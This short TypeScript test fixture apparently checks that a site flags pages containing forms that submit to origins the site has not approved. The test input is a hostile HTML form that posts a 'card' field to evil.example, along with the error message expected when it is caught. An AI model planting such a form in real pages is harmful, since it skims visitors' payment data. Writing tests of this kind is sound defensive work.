import { hostilePage } from './hostile-release'

/** What visitors type goes elsewhere, without a script. */
export const release = hostilePage(
  '<form action="https://evil.example/"><input name="card" aria-label="Card"></form>',
  /page \/courses of catalog\/courses-page \(catalog@0\.2\.0\) has a form of https:\/\/evil\.example, which the site does not grant the page: <form/,
)
